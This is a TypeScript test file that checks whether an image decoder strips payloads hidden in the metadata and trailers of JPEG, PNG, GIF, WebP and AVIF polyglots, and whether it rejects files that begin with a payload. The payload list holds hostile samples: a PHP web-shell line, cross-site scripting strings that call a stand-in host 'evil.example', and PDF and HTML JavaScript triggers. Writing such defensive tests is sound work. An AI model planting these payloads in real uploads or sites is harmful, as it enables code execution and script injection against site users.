import sharp from 'sharp';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { decodeImage } from '../../src/image/decode.ts';
import { openDecoder, type Decoder } from '../../src/image/decoder.ts';
import { silent } from './log.ts';
import * as make from './pictures.ts';

let decoder: Decoder;
beforeAll(() => {
  decoder = openDecoder(silent);
});
afterAll(() => decoder.close());

const decode = (bytes: Buffer) => decodeImage({ merchantId: 'a', decoder }, bytes, ['file']);
const jpeg = await make.picture(30, 20).jpeg().toBuffer();
const png = await make.picture(30, 20).png().toBuffer();
const gif = make.gif(30, 20, 1);
const webp = await make.picture(30, 20).webp().toBuffer();
const avif = await make.picture(30, 20).avif({ effort: 0 }).toBuffer();
const zip = Buffer.from('504b03040a0000000000000000000000000000000000000000000900000065', 'hex');

const payloads: Record<string, Buffer> = {
  script: Buffer.from('*/=1;alert(document.domain);//<script src=//evil.example/x></script>'),
  PHP: Buffer.from("<?php system($_GET['c']); __halt_compiler(); ?>"),
  ZIP: Buffer.concat([zip, Buffer.from('evil.class cafebabe')]),
  PDF: Buffer.from('%PDF-1.7 1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
  HTML: Buffer.from('<html><body onload=alert(1)><svg/onload=fetch("//evil.example")>'),
};

const carriers: [string, (payload: Buffer) => Buffer][] = [
  ['a JPEG with it in a comment', (payload) => make.withJpegSegment(jpeg, 0xfe, payload)],
  [
    'a JPEG with it in EXIF',
    (payload) => make.withJpegSegment(jpeg, 0xe1, Buffer.concat([Buffer.from('Exif\0\0'), payload])),
  ],
  [
    'a JPEG with it in XMP',
    (payload) =>
      make.withJpegSegment(jpeg, 0xe1, Buffer.concat([Buffer.from('http://ns.adobe.com/xap/1.0/\0'), payload])),
  ],
  [
    'a JPEG with it in a colour profile',
    (payload) => make.withJpegSegment(jpeg, 0xe2, Buffer.concat([Buffer.from('ICC_PROFILE\0\x01\x01'), payload])),
  ],
  [
    'a JPEG with it in IPTC',
    (payload) => make.withJpegSegment(jpeg, 0xed, Buffer.concat([Buffer.from('Photoshop 3.0\0'), payload])),
  ],
  ['a JPEG with it in a private segment', (payload) => make.withJpegSegment(jpeg, 0xeb, payload)],
  ['a JPEG with it behind the end', (payload) => Buffer.concat([jpeg, payload])],
  ['a PNG with it in a note', (payload) => pngWith('tEXt', 'Comment\0', payload)],
  ['a PNG with it in an international note', (payload) => pngWith('iTXt', 'XML:com.adobe.xmp\0\0\0\0\0', payload)],
  ['a PNG with it in EXIF', (payload) => pngWith('eXIf', 'MM\0*', payload)],
  ['a PNG with it in a private chunk', (payload) => pngWith('evIl', '', payload)],
  ['a PNG with it behind the end', (payload) => Buffer.concat([png, payload])],
  [
    'a PNG with it behind its pixels',
    (payload) => make.png({ width: 1, height: 1, data: Buffer.concat([make.deflatedZeros(2), payload]) }),
  ],
  ['a GIF with it in a comment', (payload) => make.gif(30, 20, 1, make.gifExtension(0xfe, payload))],
  ['a GIF with it in an application block', (payload) => make.gif(30, 20, 1, make.gifExtension(0xff, payload))],
  ['a GIF whose size begins a comment of a program', (payload) => Buffer.concat([make.gif(0x2a2f, 20, 1), payload])],
  ['a GIF with it behind the end', (payload) => Buffer.concat([gif, payload])],
  [
    'a WebP with it in EXIF',
    (payload) => make.webp(make.webpHeader(8, 30, 20), make.webpPixels(webp), ['EXIF', payload]),
  ],
  [
    'a WebP with it in XMP',
    (payload) => make.webp(make.webpHeader(4, 30, 20), make.webpPixels(webp), ['XMP ', payload]),
  ],
  [
    'a WebP with it in an unknown chunk',
    (payload) => make.webp(make.webpHeader(0, 30, 20), make.webpPixels(webp), ['EVIL', payload]),
  ],
  ['a WebP with it behind the end', (payload) => Buffer.concat([webp, payload])],
  ['an AVIF with it in free space behind', (payload) => Buffer.concat([avif, make.box('free', payload)])],
  ['an AVIF with it in a box of its own', (payload) => Buffer.concat([avif, make.box('uuid', payload)])],
];

const polyglots = carriers.flatMap(([carrier, carry]) =>
  Object.entries(payloads).map(([name, payload]) => [name, carrier, payload, carry] as const),
);

// docs/reliability-tests.md: 61
it.each(polyglots)('keeps only the picture of %s: %s', async (_, __, payload, carry) => {
  const polyglot = carry(payload);
  expect(polyglot.includes(payload)).toBe(true);
  const startedMs = performance.now();
  const { bytes } = await decode(polyglot);
  expect(performance.now() - startedMs).toBeLessThan(10_000);
  const words = payload.toString('latin1').match(/\w{4,}/g)!;
  expect(words.filter((word) => Buffer.from(bytes).includes(word))).toEqual([]);
  await expect(sharp(bytes).stats()).resolves.toBeDefined();
});

it.each(Object.entries(payloads))('refuses a picture that begins with %s', async (_, payload) => {
  await expect(decode(Buffer.concat([payload, jpeg]))).rejects.toMatchObject({ code: 'ARGUMENT_VALIDATION_ERROR' });
});

function pngWith(type: string, start: string, payload: Buffer): Buffer {
  return make.withPngChunks(png, make.pngChunk(type, Buffer.concat([Buffer.from(start, 'latin1'), payload])));
}
